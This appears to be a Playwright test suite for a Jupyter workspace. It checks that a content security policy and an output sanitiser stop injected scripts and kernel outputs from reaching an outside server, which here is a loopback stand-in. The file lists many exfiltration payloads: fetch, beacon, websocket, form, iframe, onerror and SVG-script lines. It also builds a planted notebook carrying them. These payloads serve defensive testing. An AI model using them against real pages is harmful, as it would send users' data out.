"""What a kernel shows reaches nothing outside, in Chromium: the guard without the policy, the policy without the guard.

An HTTP server on another port of the loopback plays the outside world. Each lock is tried with the other taken away,
and with neither the same attacks arrive, so that these tests can fail. Ravi is the attacker; his notebooks are his own.
"""

import contextlib
import json
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
from playwright.sync_api import Browser, BrowserContext, Locator, Page, expect

from job_kit import PROJECT
from site_kit import Site
from tidegate.model import ProjectPhase

Persons = Callable[[str], Page]
LONGEST = 90_000
FORBIDDEN = 403
Way = Callable[["Visit"], bool]


@dataclass
class Outside:
    """The world beyond the workspace; keeps the path of whatever arrives."""

    address: str
    hits: list[str] = field(default_factory=list)

    def was_reached(self, name: str) -> bool:
        return f"/{name}" in self.hits


def arrived(path: str) -> list[str]:
    """What a request counts as; a favicon is the browser's own idea, once a page has gone there."""
    return [] if path == "/favicon.ico" else [path.partition("?")[0]]


@pytest.fixture(scope="module")
def outside() -> Iterator[Outside]:
    with listening() as found:
        yield found


@pytest.fixture
def own_outside() -> Iterator[Outside]:
    """For one test alone: nothing of another arrives late."""
    with listening() as found:
        yield found


@contextlib.contextmanager
def listening() -> Iterator[Outside]:
    hits: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            hits.extend(arrived(self.path))
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()
            self.wfile.write(b"outside")

        do_POST = do_GET  # noqa: N815  # the name is the library's

        def log_message(self, *_: object) -> None:
            """Nothing on the terminal."""

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        server.daemon_threads = True
        thread = threading.Thread(target=server.serve_forever, args=(0.05,))
        thread.start()
        yield Outside(f"http://127.0.0.1:{server.server_port}", hits)
        server.shutdown()
        thread.join()


@dataclass
class Visit:
    """One tab of Ravi's, and what it gave away."""

    page: Page
    outside: Outside
    downloads: list[str] = field(default_factory=list)
    console: list[str] = field(default_factory=list)
    popups: list[str] = field(default_factory=list)
    refused: list[str] = field(default_factory=list)

    def __post_init__(self) -> None:
        self.page.on("download", lambda download: self.downloads.append(download.url))
        self.page.on("console", lambda message: self.console.append(message.text))
        self.page.on("response", lambda answer: self.refused.append(answer.url) if answer.status == FORBIDDEN else None)
        self.page.on("popup", lambda popup: self.popups.append(popup.url))

    def run(self, code: str) -> Any:
        """Run a script in the page itself, as one that slipped past the guard would."""
        return self.page.evaluate(code, self.outside.address)

    def until(self, so: Callable[[], bool], what: str) -> None:
        """Look until it is so, letting the browser work in between."""
        for _ in range(200):
            if so():
                return
            self.page.wait_for_timeout(50)
        raise AssertionError(f"waited for {what}; console: {self.console[-5:]}; hits: {self.outside.hits}")


@pytest.fixture(scope="module")
def state(whole_site: Site, person: Persons) -> Any:
    """Ravi's cookies, with his project ready and his workspace running."""
    if whole_site.status().phase is not ProjectPhase.DEPLOYED:
        whole_site.register()
        whole_site.approve()
    page = person("ravi")
    page.goto(f"{whole_site.hub}/hub/spawn/ravi/{PROJECT}")
    page.wait_for_url(f"**/user/ravi/{PROJECT}/lab**", timeout=LONGEST)
    page.close()
    return page.context.storage_state()


def opened(context: BrowserContext, site: Site, outside: Outside) -> Visit:
    visit = Visit(context.new_page(), outside)
    visit.page.goto(f"{lab(site)}?reset")
    launcher(visit.page).wait_for(timeout=LONGEST)
    return visit


def lab(site: Site) -> str:
    return f"http://ravi.tidegate.localhost:{site.port}/user/ravi/{PROJECT}/lab"


def launcher(page: Page) -> Locator:
    return page.locator(".jp-LauncherCard[data-category='Notebook']").first


@pytest.fixture(scope="module")
def locked(chromium: Browser, state: Any, whole_site: Site, outside: Outside) -> Iterator[Visit]:
    """A tab as Ravi has it."""
    with chromium.new_context(storage_state=state, accept_downloads=True) as context:
        yield opened(context, whole_site, outside)


@pytest.fixture(scope="module")
def without_policy(chromium: Browser, state: Any, whole_site: Site, outside: Outside) -> Iterator[Visit]:
    """The same tab in a browser that is not told the content security policy: what is left is the guard."""
    with chromium.new_context(storage_state=state, accept_downloads=True, bypass_csp=True) as context:
        yield opened(context, whole_site, outside)


def reports(directive: str) -> Way:
    """The browser names the directive by which it refused."""
    return lambda visit: directive in visit.page.evaluate("refused")


def says(text: str) -> Way:
    return lambda visit: any(text in line for line in visit.console)


def element(name: str, attribute: str, path: str, more: str = "") -> str:
    return (
        f"out => {{ const e = document.createElement('{name}'); e.{attribute} = out + '/{path}'; {more};"
        " document.body.append(e) }"
    )


WORKER = (
    "out => { const code = `addEventListener('securitypolicyviolation', e => postMessage(e.effectiveDirective));"
    " fetch('${out}/worker', {mode: 'no-cors'}).catch(() => 0)`;"
    " new Worker(URL.createObjectURL(new Blob([code]))).onmessage = e => refused.push(e.data) }"
)
FORM = (
    "out => { const f = document.createElement('iframe'); f.name = 'sink'; document.body.append(f);"
    " const e = document.createElement('form'); e.action = `${out}/form`; e.target = 'sink';"
    " document.body.append(e); e.submit() }"
)

# What a script in the page tries, and how the browser is known to have refused it.
WAYS: dict[str, tuple[str, Way]] = {
    "img": (element("img", "src", "img"), reports("img-src")),
    "css-url": ("out => { document.body.style.backgroundImage = `url(${out}/css-url)` }", reports("img-src")),
    "stylesheet": (element("link", "href", "stylesheet", "e.rel = 'stylesheet'"), reports("style-src-elem")),
    "iframe": (element("iframe", "src", "iframe"), reports("frame-src")),
    "object": (element("object", "data", "object"), reports("object-src")),
    "script": (element("script", "src", "script"), reports("script-src-elem")),
    "fetch": ("out => { fetch(`${out}/fetch`, {mode: 'no-cors'}).catch(() => 0) }", reports("connect-src")),
    "beacon": ("out => { navigator.sendBeacon(`${out}/beacon`, 'x') }", reports("connect-src")),
    "event-source": ("out => { new EventSource(`${out}/event-source`) }", reports("connect-src")),
    "websocket": ("out => { new WebSocket(`${out.replace('http', 'ws')}/websocket`) }", reports("connect-src")),
    "worker": (
        WORKER,
        reports("connect-src"),
    ),
    "form": (
        FORM,
        reports("form-action"),
    ),
    "window-open": ("out => { window.open(`${out}/window-open`) }", says("Blocked opening")),
    "blank-link": (
        element("a", "href", "blank-link", "e.target = '_blank'; e.click()"),
        says("Blocked opening"),
    ),
}
SAVE = "() => {{ const e = document.createElement('a'); e.download = 'table.csv'; e.href = {}; e.click() }}"
DOWNLOADS = {
    "blob": SAVE.format("URL.createObjectURL(new Blob(['a,b']))"),
    "data": SAVE.format("'data:text/csv,a,b'"),
}
LISTEN = "() => { window.refused = []; onsecuritypolicyviolation = e => refused.push(e.effectiveDirective) }"


@pytest.mark.parametrize("name", WAYS)
def test_a_script_in_the_page_reaches_nothing(name: str, locked: Visit) -> None:
    code, refused = WAYS[name]
    locked.console.clear()
    locked.run(LISTEN)
    locked.run(code)
    locked.until(lambda: refused(locked), f"the browser to refuse {name}")
    assert not locked.outside.was_reached(name)
    assert (locked.downloads, locked.popups) == ([], [])


@pytest.mark.parametrize("name", DOWNLOADS)
def test_a_script_in_the_page_saves_nothing(
    name: str, chromium: Browser, state: Any, whole_site: Site, own_outside: Outside
) -> None:
    """In a page of its own, since the browser says so once a page."""
    with chromium.new_context(storage_state=state, accept_downloads=True) as context:
        visit = opened(context, whole_site, own_outside)
        visit.run(DOWNLOADS[name])
        visit.until(lambda: says("Download is disallowed")(visit), "the browser to refuse")
        assert visit.downloads == []


@pytest.mark.parametrize("name", WAYS)
def test_without_the_policy_the_same_script_gets_out(name: str, without_policy: Visit) -> None:
    without_policy.run(LISTEN)
    without_policy.run(WAYS[name][0])
    without_policy.until(lambda: without_policy.outside.was_reached(name), name)
    without_policy.outside.hits.clear()


@pytest.mark.parametrize("name", DOWNLOADS)
def test_without_the_policy_the_same_script_saves(name: str, without_policy: Visit) -> None:
    without_policy.downloads.clear()
    without_policy.run(DOWNLOADS[name])
    without_policy.until(lambda: without_policy.downloads != [], "the download")


def test_the_pages_own_address_is_the_known_leak(
    chromium: Browser, state: Any, whole_site: Site, own_outside: Outside
) -> None:
    """No policy holds a page from going elsewhere, so that no script may run at all is the guard's work."""
    with chromium.new_context(storage_state=state) as context:
        visit = opened(context, whole_site, own_outside)
        visit.run("out => { location.href = `${out}/location` }")
        visit.until(lambda: own_outside.was_reached("location"), "the page to leave")


SVG = (
    "<svg xmlns='http://www.w3.org/2000/svg'><image href='OUT/svg-img'/>"
    "<script>location = 'OUT/svg-script'</script></svg>"
)

# What a kernel shows, by kind. OUT stands for the outside world; each path names its attack.
SHOWN: tuple[tuple[str, str], ...] = (
    ("text/html", "<img src='OUT/html-img'><img src=x onerror=\"location='OUT/html-onerror'\">"),
    ("text/html", "<p style='background: url(OUT/html-css)'>css</p><style>p {background: url(OUT/html-style)}</style>"),
    ("text/html", "<iframe src='OUT/html-iframe'></iframe><object data='OUT/html-object'></object>"),
    ("text/html", "<form action='OUT/html-form'><button>Send</button></form><a href='OUT/html-link'>link</a>"),
    ("text/html", "<meta http-equiv='refresh' content='0; url=OUT/html-meta'><base href='OUT/html-base'>"),
    ("text/html", "<link rel='stylesheet' href='OUT/html-sheet'><link rel='prefetch' href='OUT/html-prefetch'>"),
    ("text/html", "<script>location = 'OUT/html-script'</script><video poster='OUT/html-video'></video>"),
    ("text/html", "<svg><image href='OUT/html-svg'/><script>location = 'OUT/html-svg-script'</script></svg>"),
    ("text/markdown", "![picture](OUT/md-img) [link](OUT/md-link) <OUT/md-auto> OUT/md-bare [x]\n\n[x]: OUT/md-ref"),
    ("text/markdown", "<img src='OUT/md-html'><script>location = 'OUT/md-script'</script>"),
    ("text/latex", "$\\href{OUT/tex-link}{x} \\style{background: url(OUT/tex-css)}{x} \\includegraphics{OUT/tex-img}$"),
    ("application/javascript", "new Image().src = 'OUT/js-img'; location = 'OUT/js-location'"),
    ("image/svg+xml", SVG),
)
PLOT = """
%matplotlib inline
import matplotlib.pyplot as plt
plt.figure(figsize=(2, 2)); plt.plot([1, 3, 2]); plt.show()
print('that', 'was all')
"""


def shown(out: str) -> list[tuple[str, str]]:
    return [(kind, raw.replace("OUT", out)) for kind, raw in SHOWN]


def run_cell(page: Page, code: str) -> None:
    launcher(page).click()
    page.locator(".jp-Notebook .cm-content").first.wait_for(timeout=LONGEST)
    expect(page.get_by_text("Python 3 | Idle")).to_be_visible(timeout=LONGEST)
    page.locator(".jp-Notebook .jp-Cell").last.locator(".cm-content").click()
    page.keyboard.insert_text(code)
    page.keyboard.press("Shift+Enter")


def show_all(visit: Visit) -> None:
    """A kernel shows every attack, and a plot after them."""
    displays = "\n".join(f"display({{{kind!r}: {raw!r}}}, raw=True)" for kind, raw in shown(visit.outside.address))
    run_cell(visit.page, f"from IPython.display import display\n{displays}\n{PLOT}")
    expect(visit.page.get_by_text("that was all", exact=True)).to_be_visible(timeout=LONGEST)
    expect(visit.page.locator(".jp-OutputArea img[src^='data:image/png']")).to_be_visible()


LEADS_OUT = """out => [...document.querySelectorAll('.jp-OutputArea *')]
    .filter(e => [...e.attributes].some(a => a.value.includes(out))).map(e => e.outerHTML)"""
RUNS = "() => document.querySelectorAll('.jp-OutputArea :is(script, style, iframe, object, form, meta, link)').length"


def nothing_in_the_outputs_leads_out(visit: Visit) -> None:
    assert visit.run(LEADS_OUT) == []
    assert visit.page.evaluate(RUNS) == 0
    assert visit.outside.hits == []
    assert (visit.downloads, visit.popups) == ([], [])
    assert "/lab" in visit.page.url


@pytest.mark.parametrize("policy", [True, False])
def test_what_a_kernel_shows_reaches_nothing_and_plots_render(
    policy: bool,  # noqa: FBT001  # whether the policy holds too
    chromium: Browser,
    state: Any,
    whole_site: Site,
    own_outside: Outside,
) -> None:
    """The guard holds alone as well as under the policy, and the Lab asks for nothing in vain."""
    with chromium.new_context(storage_state=state, accept_downloads=True, bypass_csp=not policy) as context:
        visit = opened(context, whole_site, own_outside)
        show_all(visit)
        nothing_in_the_outputs_leads_out(visit)
        assert [text for text in visit.console if "events/subscribe" in text] == []
        assert [url for url in visit.refused if "/api/events" in url] == []


def test_without_guard_and_policy_the_same_html_gets_out(
    chromium: Browser, state: Any, whole_site: Site, own_outside: Outside
) -> None:
    """This shows that the test above can fail."""
    with chromium.new_context(storage_state=state, bypass_csp=True) as context:
        visit = opened(context, whole_site, own_outside)
        html = "".join(raw for kind, raw in shown(own_outside.address)[:3] if kind == "text/html")
        visit.page.evaluate("raw => document.body.insertAdjacentHTML('beforeend', raw)", html)
        for name in ("html-img", "html-css", "html-style", "html-iframe", "html-object", "html-onerror"):
            visit.until(lambda path=name: own_outside.was_reached(path), name)


def planted(out: str) -> str:
    """A notebook file with all of it as saved outputs, and as text of Markdown cells."""
    outputs = [{"output_type": "display_data", "data": {kind: raw}, "metadata": {}} for kind, raw in shown(out)]
    code = {"cell_type": "code", "source": "1", "execution_count": 1, "metadata": {"trusted": True}, "outputs": outputs}
    texts = [raw for kind, raw in shown(out) if kind in {"text/markdown", "text/html"}]
    cells = [{"cell_type": "markdown", "source": text, "metadata": {}} for text in texts]
    metadata = {"kernelspec": {"name": "python3", "display_name": "Python 3"}}
    return json.dumps({"nbformat": 4, "nbformat_minor": 4, "metadata": metadata, "cells": [code, *cells]})


def test_a_planted_notebook_file_reaches_nothing_when_it_is_opened(
    chromium: Browser, state: Any, whole_site: Site, own_outside: Outside
) -> None:
    """Saved outputs pass the guard. The text of Markdown cells is the researcher's: the policy holds what it asks."""
    with chromium.new_context(storage_state=state, accept_downloads=True) as context:
        visit = opened(context, whole_site, own_outside)
        run_cell(
            visit.page, f"open('planted.ipynb', 'w').write({planted(own_outside.address)!r}); print('is', 'planted')"
        )
        expect(visit.page.get_by_text("is planted", exact=True)).to_be_visible(timeout=LONGEST)
        visit.page.goto(f"{lab(whole_site)}/tree/planted.ipynb?reset")
        expect(visit.page.locator(".jp-MarkdownOutput img").first).to_be_attached(timeout=LONGEST)
        expect(visit.page.locator(".jp-CodeCell .jp-OutputArea-child")).to_have_count(len(SHOWN))
        nothing_in_the_outputs_leads_out(visit)
        visit.until(lambda: says("Content Security Policy")(visit), "the policy to refuse a Markdown cell's picture")
        for link in visit.page.locator(f".jp-MarkdownOutput a[href^='{own_outside.address}']").all():
            visit.console.clear()
            link.click()
            visit.until(lambda: says("Blocked opening")(visit), "the browser to refuse the link")
        assert (own_outside.hits, visit.downloads, visit.popups) == ([], [], [])
